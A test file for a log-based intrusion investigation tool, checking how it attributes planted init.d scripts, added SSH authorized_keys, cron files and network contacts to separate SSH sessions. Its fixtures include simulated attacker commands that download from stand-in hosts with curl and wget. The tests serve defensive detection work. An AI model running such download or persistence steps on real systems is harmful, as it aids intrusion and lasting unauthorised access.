import { describe, expect, it } from 'vitest';
import type { Case } from '#dist/investigate/case.js';
import { casePretty } from '#dist/investigate/report/pretty.js';
import { namePattern } from '#dist/investigate/steps/name-pattern.js';
import { writtenCase } from '../report/cases.js';
import { create, exec, type Fields } from './log.js';
import { caseOfBytes } from './scenarios.js';

/** A process of one of two sessions. */
function process(id: string, session: string): Fields {
  return {
    'process.entity_id': id,
    'process.parent.entity_id': session,
    'process.entry_leader.entity_id': session,
    'process.entry_leader.entry_meta.type': 'sshd',
    'process.entry_leader.entry_meta.source.ip': `203.0.113.${session.length}`,
  };
}

async function caseOf(events: readonly object[]): Promise<Case> {
  return caseOfBytes([Buffer.from(events.map((one) => `${JSON.stringify(one)}\n`).join(''))]);
}

/** The lines of a finding with these labels. */
async function findings(found: Case, label: string): Promise<readonly string[]> {
  const text = await writtenCase(casePretty, found);
  return text.split('\n').filter((line) => line.startsWith(`  ${label} `));
}

const two = [
  create(10, '/etc/init.d/one', process('w1', 'a')),
  create(11, '/root/.ssh/authorized_keys', process('k', 'a')),
  exec(12, ['curl', 'http://192.0.2.66/x'], process('c1', 'a')),
  create(20, '/etc/init.d/other', process('w2', 'bb')),
  create(21, '/etc/cron.d/other', process('k2', 'bb')),
  exec(22, ['wget', 'https://bad.example.com/y'], process('c2', 'bb')),
];

describe('two sessions that planted files on a host', () => {
  it('have each its own other deeds and addresses in the findings', async () => {
    const found = await caseOf(two);
    const [one, other] = await findings(found, 'ALSO');
    expect(one).toContain('/root/.ssh/authorized_keys');
    expect(one).not.toContain('/etc/cron.d/other');
    expect(other).toContain('/etc/cron.d/other');
    expect(other).not.toContain('/root/.ssh/authorized_keys');
    const net = await findings(found, 'NET');
    expect(net[0]).toMatch(/in commands: 192\.0\.2\.66 \[/);
    expect(net[1]).toMatch(/in commands: bad\.example\.com \[/);
  });

  it('are judged each by its own deeds, and it is said which', async () => {
    const [host] = (await caseOf(two)).hosts;
    const against = host?.files.map((file) => [
      file.path,
      ...(file.against ?? []).flatMap(({ deed, value }) => (deed ? [`${deed} ${value}`] : [])),
    ]);
    expect(against).toEqual([
      ['/etc/init.d/one', 'authorized-keys /root/.ssh/authorized_keys'],
      ['/etc/init.d/other', 'cron /etc/cron.d/other'],
    ]);
    const [line] = await findings(await caseOf(two), 'HARMLESS?');
    expect(line).toContain('the session added SSH keys [');
  });

  it('have their addresses in json, with their events', async () => {
    const [host] = (await caseOf(two)).hosts;
    expect(host?.mentioned).toMatchObject([
      { kind: 'address', value: '192.0.2.66', command: 'curl http://192.0.2.66/x', session: 1 },
      { kind: 'domain', value: 'bad.example.com', session: 2 },
    ]);
    expect(host?.mentioned?.every(({ events }) => events.length === 1)).toBe(true);
  });
});

describe('the lists that insserv writes', () => {
  const insserv = (path: string, executable = '/sbin/insserv'): object =>
    create(12, path, { ...process('i', 'a'), 'process.executable': executable });
  const lists = ['boot', 'start', 'stop'].map((name) => `/etc/init.d/.depend.${name}`);

  async function parts(events: readonly object[]) {
    const [host] = (await caseOf(events)).hosts;
    return Object.fromEntries(host?.files.map(({ path, partOf }) => [path, partOf]) ?? []);
  }

  it('are part of the script that they were written for', async () => {
    const planted = create(10, '/etc/init.d/netd', process('w', 'a'));
    expect(await parts([planted, ...lists.map((path) => insserv(path))])).toEqual({
      '/etc/init.d/netd': undefined,
      ...Object.fromEntries(lists.map((path) => [path, '/etc/init.d/netd'])),
    });
  });

  it('are one deed without such a script', async () => {
    expect(await parts(lists.map((path) => insserv(path)))).toEqual({
      '/etc/init.d/.depend.boot': undefined,
      '/etc/init.d/.depend.start': '/etc/init.d/.depend.boot',
      '/etc/init.d/.depend.stop': '/etc/init.d/.depend.boot',
    });
  });

  it('are files of their own if another program of that name wrote them', async () => {
    const planted = create(10, '/etc/init.d/netd', process('w', 'a'));
    const found = await parts([planted, insserv('/etc/init.d/.depend.boot', '/tmp/insserv')]);
    expect(found['/etc/init.d/.depend.boot']).toBeUndefined();
  });
});

describe('a name with bytes that are not text', () => {
  it.each([
    ['a\ufffdb', 'a?*b'],
    ['a\ufffd\ufffdb', 'a?*?*b'],
    ['*\ufffd[x]?\\', '\\*?*\\[x\\]\\?\\\\'],
    ['plain', undefined],
  ])('%j is found by %j', (name, pattern) => {
    expect(namePattern(name)).toBe(pattern);
  });

  it('is said to be damaged, and found by the pattern', async () => {
    const found = await caseOf([create(1, '/etc/init.d/a\ufffdb', process('w', 'a'))]);
    const [file] = found.hosts[0]?.files ?? [];
    expect(file?.namePattern).toBe('a?*b');
    expect(file?.steps.shell.map(({ command }) => command)).toContain(
      "LC_ALL=C find '/etc/init.d' -maxdepth 1 -name 'a?*b' -ls 2>&1 | cat -v",
    );
    expect(await writtenCase(casePretty, found)).toContain('damaged in the log');
  });
});
